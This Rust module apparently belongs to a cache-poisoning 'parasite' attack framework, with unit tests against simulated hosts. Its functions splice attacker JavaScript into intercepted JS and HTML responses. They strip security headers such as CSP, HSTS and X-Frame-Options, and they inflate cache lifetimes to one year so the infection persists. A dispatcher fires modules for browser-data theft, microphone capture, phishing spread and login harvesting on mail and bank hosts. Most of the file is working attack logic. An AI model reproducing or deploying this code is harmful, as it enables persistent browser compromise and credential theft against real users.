//! Construction of infected objects: payload splicing into JS/HTML bodies,
//! cache-header inflation, security-header stripping, cache-busted reloads of
//! the pristine original, and URL-based attack-module dispatch.
//!
//! Spliced code carries a `/*pst:<id>*/` marker comment; bodies that already
//! contain a marker are refused, which is what makes infection idempotent.

use crate::http_core::{
    add_cache_buster, strip_conditional_headers, HttpError, HttpMessage, Status,
};
use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;
use thiserror::Error;
use url::Url;

/// Cache-lifetime value written into infected responses: one year, the
/// practical maximum for keeping an object cached as long as possible.
pub const INFLATED_CACHE_CONTROL: &str = "max-age=31536000";

/// Every spliced payload is branded with `/*pst:<id>*/`.
pub const MARKER_PREFIX: &str = "/*pst:";

/// HTML injection happens immediately before the last closing body tag.
pub const HTML_INJECTION_ANCHOR: &str = "</body>";

pub fn infection_marker(id: &str) -> String {
    format!("{MARKER_PREFIX}{id}*/")
}

/// True when a body already carries an infection marker.
pub fn is_infected(body: &[u8]) -> bool {
    find_subslice(body, MARKER_PREFIX.as_bytes()).is_some()
}

fn find_subslice(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    if needle.is_empty() || haystack.len() < needle.len() {
        return None;
    }
    haystack.windows(needle.len()).position(|w| w == needle)
}

/// The attacker's script plus the modules it can dispatch.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ParasitePayload {
    pub id: String,
    pub code: String,
    #[serde(default)]
    pub modules: Vec<AttackModuleId>,
}

impl ParasitePayload {
    /// Verifies that no identifier in the payload code collides with the
    /// configured reserved list (the target page's own identifiers).
    pub fn check_reserved(&self, reserved: &[String]) -> Result<(), ParasiteError> {
        let idents = scan_identifiers(&self.code);
        for name in reserved {
            if idents.contains(name.as_str()) {
                return Err(ParasiteError::ReservedIdentifier {
                    identifier: name.clone(),
                });
            }
        }
        Ok(())
    }
}

/// Lexical scan for JS-style identifiers: `[A-Za-z_$][A-Za-z0-9_$]*`.
fn scan_identifiers(code: &str) -> BTreeSet<&str> {
    let mut out = BTreeSet::new();
    let bytes = code.as_bytes();
    let is_start = |b: u8| b.is_ascii_alphabetic() || b == b'_' || b == b'$';
    let is_cont = |b: u8| b.is_ascii_alphanumeric() || b == b'_' || b == b'$';
    let mut i = 0;
    while i < bytes.len() {
        if is_start(bytes[i]) {
            let start = i;
            while i < bytes.len() && is_cont(bytes[i]) {
                i += 1;
            }
            out.insert(&code[start..i]);
        } else {
            i += 1;
        }
    }
    out
}

/// The four attack modules the dispatcher knows about.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum AttackModuleKind {
    /// Read browser data: current URL, user agent, cookies, local storage.
    ReadBrowserData,
    /// Extract protected browser data, e.g. microphone capture.
    ProtectedCapture,
    /// Spread via customised phishing.
    PhishingSpread,
    /// Extract login data from hooked forms.
    LoginHarvest,
}

impl AttackModuleKind {
    pub fn as_str(self) -> &'static str {
        match self {
            AttackModuleKind::ReadBrowserData => "read_browser_data",
            AttackModuleKind::ProtectedCapture => "protected_capture",
            AttackModuleKind::PhishingSpread => "phishing_spread",
            AttackModuleKind::LoginHarvest => "login_harvest",
        }
    }
}

/// Registry entry: an attack module and the host globs it fires on.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AttackModuleId {
    pub id: AttackModuleKind,
    pub url_patterns: Vec<String>,
}

/// Header-rewrite policy applied while infecting a response.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct InfectionPolicy {
    pub headers_to_remove: Vec<String>,
    pub cache_control_value: String,
    pub html_injection_anchor: String,
}

impl Default for InfectionPolicy {
    fn default() -> InfectionPolicy {
        InfectionPolicy {
            headers_to_remove: [
                "Content-Security-Policy",
                "Content-Security-Policy-Report-Only",
                "Strict-Transport-Security",
                "X-Frame-Options",
                "X-Content-Type-Options",
            ]
            .into_iter()
            .map(String::from)
            .collect(),
            cache_control_value: INFLATED_CACHE_CONTROL.to_string(),
            html_injection_anchor: HTML_INJECTION_ANCHOR.to_string(),
        }
    }
}

impl InfectionPolicy {
    /// A policy must at minimum strip CSP, HSTS, and X-Frame-Options, and
    /// anchor HTML injection at the closing body tag.
    pub fn validate(&self) -> Result<(), ParasiteError> {
        for required in [
            "Content-Security-Policy",
            "Strict-Transport-Security",
            "X-Frame-Options",
        ] {
            if !self
                .headers_to_remove
                .iter()
                .any(|h| h.eq_ignore_ascii_case(required))
            {
                return Err(ParasiteError::PolicyMissingHeader {
                    header: required.to_string(),
                });
            }
        }
        if !self
            .html_injection_anchor
            .eq_ignore_ascii_case(HTML_INJECTION_ANCHOR)
        {
            return Err(ParasiteError::BadAnchor);
        }
        Ok(())
    }
}

/// Appends the payload to a JavaScript body: `<original>; /*pst:<id>*/<code>;`.
/// The original is always an exact byte prefix of the result.
pub fn infect_js(original: &[u8], payload: &ParasitePayload) -> Result<Vec<u8>, ParasiteError> {
    if is_infected(original) {
        return Err(ParasiteError::AlreadyInfected);
    }
    let mut out = Vec::with_capacity(original.len() + payload.code.len() + 16);
    out.extend_from_slice(original);
    out.extend_from_slice(b"; ");
    out.extend_from_slice(infection_marker(&payload.id).as_bytes());
    out.extend_from_slice(payload.code.as_bytes());
    out.push(b';');
    Ok(out)
}

/// Inserts `<script>...</script>` immediately before the last closing body
/// tag (matched case-insensitively). Documents without one are not
/// injectable; HTML insertion is optional and skipped by the caller.
pub fn infect_html(original: &[u8], payload: &ParasitePayload) -> Result<Vec<u8>, ParasiteError> {
    if is_infected(original) {
        return Err(ParasiteError::AlreadyInfected);
    }
    let anchor = HTML_INJECTION_ANCHOR.as_bytes();
    let pos = original
        .windows(anchor.len())
        .enumerate()
        .filter(|(_, w)| w.eq_ignore_ascii_case(anchor))
        .map(|(i, _)| i)
        .next_back()
        .ok_or(ParasiteError::NotInjectable)?;
    let snippet = format!(
        "<script>{}{}</script>",
        infection_marker(&payload.id),
        payload.code
    );
    let mut out = Vec::with_capacity(original.len() + snippet.len());
    out.extend_from_slice(&original[..pos]);
    out.extend_from_slice(snippet.as_bytes());
    out.extend_from_slice(&original[pos..]);
    Ok(out)
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum ContentClass {
    Js,
    Html,
    Other,
}

fn content_class(resp: &HttpMessage) -> ContentClass {
    if let Some(ct) = resp.headers.get("Content-Type") {
        let ct = ct.to_ascii_lowercase();
        if ct.contains("javascript") {
            return ContentClass::Js;
        }
        if ct.contains("html") {
            return ContentClass::Html;
        }
        return ContentClass::Other;
    }
    let path = resp.url.path().to_ascii_lowercase();
    if path.ends_with(".js") {
        ContentClass::Js
    } else if path.ends_with(".html") || path.ends_with(".htm") {
        ContentClass::Html
    } else {
        ContentClass::Other
    }
}

/// Rewrites a 200 response into its infected form: security headers removed,
/// cache lifetime inflated, body spliced according to content type, and
/// Content-Length updated.
///
/// A 304 cannot be infected — the caller must first strip the conditional
/// request headers so the server answers with a full 200 body.
pub fn rewrite_response(
    resp: &HttpMessage,
    payload: &ParasitePayload,
    policy: &InfectionPolicy,
) -> Result<HttpMessage, ParasiteError> {
    match resp.status() {
        Some(Status::Ok) => {}
        Some(other) => return Err(ParasiteError::NotOk {
            status: other.code(),
        }),
        None => return Err(ParasiteError::NotAResponse),
    }
    if is_infected(&resp.body) {
        return Err(ParasiteError::AlreadyInfected);
    }
    let body = match content_class(resp) {
        ContentClass::Js => infect_js(&resp.body, payload)?,
        ContentClass::Html => match infect_html(&resp.body, payload) {
            Ok(body) => body,
            // No closing body tag: leave the body alone, headers still count.
            Err(ParasiteError::NotInjectable) => resp.body.clone(),
            Err(other) => return Err(other),
        },
        ContentClass::Other => resp.body.clone(),
    };
    let mut out = resp.clone();
    for header in &policy.headers_to_remove {
        out.headers.remove_all(header);
    }
    out.headers
        .set("Cache-Control", policy.cache_control_value.clone());
    out.headers.set("Content-Length", body.len().to_string());
    out.body = body;
    Ok(out)
}

/// Builds the GET that reloads the pristine original alongside the infected
/// copy, using a cache-busting token so it is a distinct cache key. The
/// request is same-origin with the infected object and carries no
/// conditionals.
pub fn reload_original(url: &Url, token: u64) -> Result<HttpMessage, ParasiteError> {
    let busted = add_cache_buster(url, token)?;
    let mut req = HttpMessage::request("GET", busted);
    if let Some(host) = req.url.host_str() {
        let host = host.to_string();
        req.headers.append("Host", host);
    }
    Ok(strip_conditional_headers(&req))
}

/// Selects the attack modules whose host globs match the page currently
/// executing the payload, in registry order.
pub fn dispatch<'a>(current_url: &Url, registry: &'a [AttackModuleId]) -> Vec<&'a AttackModuleId> {
    let Some(host) = current_url.host_str() else {
        return Vec::new();
    };
    registry
        .iter()
        .filter(|module| {
            module
                .url_patterns
                .iter()
                .any(|pattern| host_glob_match(pattern, host))
        })
        .collect()
}

/// Glob match over dot-separated host labels. A `*` label matches one or
/// more consecutive labels, so `mail.*` matches `mail.example.test`.
pub fn host_glob_match(pattern: &str, host: &str) -> bool {
    fn rec(pat: &[&str], host: &[&str]) -> bool {
        match pat.split_first() {
            None => host.is_empty(),
            Some((&"*", rest)) => {
                (1..=host.len()).any(|consumed| rec(rest, &host[consumed..]))
            }
            Some((label, rest)) => match host.split_first() {
                Some((h, host_rest)) => label.eq_ignore_ascii_case(h) && rec(rest, host_rest),
                None => false,
            },
        }
    }
    let pat: Vec<&str> = pattern.split('.').collect();
    let host: Vec<&str> = host.split('.').collect();
    rec(&pat, &host)
}

#[derive(Debug, Error, Clone, PartialEq, Eq)]
pub enum ParasiteError {
    #[error("body already carries an infection marker")]
    AlreadyInfected,
    #[error("html body has no closing body tag")]
    NotInjectable,
    #[error("can only infect 200 responses, got {status}")]
    NotOk { status: u16 },
    #[error("message is not a response")]
    NotAResponse,
    #[error("payload identifier `{identifier}` collides with the reserved list")]
    ReservedIdentifier { identifier: String },
    #[error("infection policy must strip the {header} header")]
    PolicyMissingHeader { header: String },
    #[error("html injection anchor must be the closing body tag")]
    BadAnchor,
    #[error(transparent)]
    Http(#[from] HttpError),
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::http_core::{parse_freshness, Headers};
    use crate::sim_time::{SimDuration, SimTime};

    fn payload() -> ParasitePayload {
        ParasitePayload {
            id: "p1".into(),
            code: "P()".into(),
            modules: Vec::new(),
        }
    }

    fn url(s: &str) -> Url {
        Url::parse(s).unwrap()
    }

    #[test]
    fn js_splice_keeps_original_prefix() {
        let out = infect_js(b"var a=1", &payload()).unwrap();
        assert_eq!(out, b"var a=1; /*pst:p1*/P();");
        assert!(out.starts_with(b"var a=1"));
    }

    #[test]
    fn js_splice_empty_original() {
        let out = infect_js(b"", &payload()).unwrap();
        assert_eq!(out, b"; /*pst:p1*/P();");
    }

    #[test]
    fn js_double_infection_refused() {
        let once = infect_js(b"var a=1", &payload()).unwrap();
        assert_eq!(
            infect_js(&once, &payload()).unwrap_err(),
            ParasiteError::AlreadyInfected
        );
    }

    #[test]
    fn html_injection_before_closing_body() {
        let out = infect_html(b"<body>x</body>", &payload()).unwrap();
        assert_eq!(out, b"<body>x<script>/*pst:p1*/P()</script></body>");
    }

    #[test]
    fn html_without_body_tag_not_injectable() {
        let original = b"<p>plain</p>";
        assert_eq!(
            infect_html(original, &payload()).unwrap_err(),
            ParasiteError::NotInjectable
        );
    }

    #[test]
    fn html_injects_before_last_body_tag() {
        let original = b"<body>a</body><body>b</body>".to_vec();
        let out = infect_html(&original, &payload()).unwrap();
        // String-scan oracle: last occurrence.
        let last = String::from_utf8(original.clone())
            .unwrap()
            .rfind("</body>")
            .unwrap();
        assert_eq!(&out[..last], &original[..last]);
        assert!(out[last..].starts_with(b"<script>"));
    }

    #[test]
    fn html_anchor_is_case_insensitive() {
        let out = infect_html(b"<BODY>x</BODY>", &payload()).unwrap();
        assert_eq!(out, b"<BODY>x<script>/*pst:p1*/P()</script></BODY>");
    }

    fn js_response() -> HttpMessage {
        HttpMessage::response(Status::Ok, url("http://site.test/a.js"))
            .with_headers(Headers::from_pairs([
                ("Content-Type", "application/javascript"),
                ("Content-Security-Policy", "default-src 'self'"),
                ("Strict-Transport-Security", "max-age=60"),
                ("X-Frame-Options", "DENY"),
                ("Cache-Control", "max-age=60"),
                ("Content-Length", "7"),
            ]))
            .with_body("var a=1")
    }

    #[test]
    fn rewrite_strips_and_inflates() {
        let out = rewrite_response(&js_response(), &payload(), &InfectionPolicy::default()).unwrap();
        assert!(!out.headers.contains("Content-Security-Policy"));
        assert!(!out.headers.contains("Strict-Transport-Security"));
        assert!(!out.headers.contains("X-Frame-Options"));
        assert_eq!(out.headers.get("Cache-Control"), Some("max-age=31536000"));
        assert_eq!(out.body, b"var a=1; /*pst:p1*/P();");
        assert_eq!(
            out.headers.get("Content-Length"),
            Some(out.body.len().to_string().as_str())
        );
        // Freshness arithmetic sees the inflated lifetime.
        let info = parse_freshness(&out).unwrap();
        assert_eq!(
            info.lifetime(SimTime::ZERO),
            SimDuration::from_secs(31_536_000)
        );
    }

    #[test]
    fn rewrite_leaves_non_injectable_body_alone() {
        let resp = HttpMessage::response(Status::Ok, url("http://site.test/logo.png"))
            .with_headers(Headers::from_pairs([
                ("Content-Type", "image/png"),
                ("X-Frame-Options", "DENY"),
            ]))
            .with_body(vec![1u8, 2, 3]);
        let out = rewrite_response(&resp, &payload(), &InfectionPolicy::default()).unwrap();
        assert_eq!(out.body, vec![1u8, 2, 3]);
        assert!(!out.headers.contains("X-Frame-Options"));
        assert_eq!(out.headers.get("Cache-Control"), Some("max-age=31536000"));
    }

    #[test]
    fn rewrite_rejects_304() {
        let resp = HttpMessage::response(Status::NotModified, url("http://site.test/a.js"));
        assert_eq!(
            rewrite_response(&resp, &payload(), &InfectionPolicy::default()).unwrap_err(),
            ParasiteError::NotOk { status: 304 }
        );
    }

    #[test]
    fn rewrite_is_idempotent_via_marker() {
        let once = rewrite_response(&js_response(), &payload(), &InfectionPolicy::default()).unwrap();
        assert_eq!(
            rewrite_response(&once, &payload(), &InfectionPolicy::default()).unwrap_err(),
            ParasiteError::AlreadyInfected
        );
    }

    #[test]
    fn rewrite_falls_back_to_extension() {
        let resp = HttpMessage::response(Status::Ok, url("http://site.test/lib.js"))
            .with_body("f()");
        let out = rewrite_response(&resp, &payload(), &InfectionPolicy::default()).unwrap();
        assert!(out.body.starts_with(b"f(); /*pst:p1*/"));
    }

    #[test]
    fn reload_uses_cache_buster() {
        let req = reload_original(&url("http://somesite.com/my.js"), 500_198).unwrap();
        assert_eq!(req.url.as_str(), "http://somesite.com/my.js?t=500198");
        assert_eq!(req.method(), Some("GET"));
        assert!(!req.headers.contains("If-None-Match"));
    }

    #[test]
    fn reload_rejects_url_with_existing_token() {
        let err = reload_original(&url("http://somesite.com/my.js?t=1"), 2).unwrap_err();
        assert_eq!(err, ParasiteError::Http(HttpError::CacheBusterConflict));
    }

    fn registry() -> Vec<AttackModuleId> {
        vec![
            AttackModuleId {
                id: AttackModuleKind::ReadBrowserData,
                url_patterns: vec!["*".into()],
            },
            AttackModuleId {
                id: AttackModuleKind::LoginHarvest,
                url_patterns: vec!["mail.*".into(), "bank.example.test".into()],
            },
        ]
    }

    #[test]
    fn dispatch_matches_host_globs() {
        let matches = dispatch(&url("http://mail.example.test/inbox"), &registry()[1..]);
        assert_eq!(matches.len(), 1);
        assert_eq!(matches[0].id, AttackModuleKind::LoginHarvest);
    }

    #[test]
    fn dispatch_empty_when_nothing_matches() {
        assert!(dispatch(&url("http://news.test/"), &registry()[1..]).is_empty());
    }

    #[test]
    fn dispatch_returns_registry_order() {
        // Oracle: check each pattern against the host by hand.
        let host = "mail.shop.test";
        assert!(host_glob_match("*", host));
        assert!(host_glob_match("mail.*", host));
        let matches = dispatch(&url("http://mail.shop.test/"), &registry());
        let kinds: Vec<_> = matches.iter().map(|m| m.id).collect();
        assert_eq!(
            kinds,
            vec![
                AttackModuleKind::ReadBrowserData,
                AttackModuleKind::LoginHarvest
            ]
        );
    }

    #[test]
    fn glob_label_semantics() {
        assert!(host_glob_match("mail.example.test", "MAIL.example.test"));
        assert!(!host_glob_match("mail.example.test", "mail.example.testx"));
        assert!(!host_glob_match("mail.*", "mail"));
        assert!(host_glob_match("*.test", "a.b.test"));
        assert!(!host_glob_match("*.test", "test"));
    }

    #[test]
    fn reserved_identifier_check() {
        let p = ParasitePayload {
            id: "p1".into(),
            code: "function pstRun(){ jQuery('#x'); }".into(),
            modules: Vec::new(),
        };
        assert_eq!(
            p.check_reserved(&["jQuery".into()]).unwrap_err(),
            ParasiteError::ReservedIdentifier {
                identifier: "jQuery".into()
            }
        );
        assert!(p.check_reserved(&["$".into(), "app".into()]).is_ok());
    }

    #[test]
    fn policy_validation() {
        assert!(InfectionPolicy::default().validate().is_ok());
        let mut p = InfectionPolicy::default();
        p.headers_to_remove.retain(|h| h != "X-Frame-Options");
        assert_eq!(
            p.validate().unwrap_err(),
            ParasiteError::PolicyMissingHeader {
                header: "X-Frame-Options".into()
            }
        );
    }
}
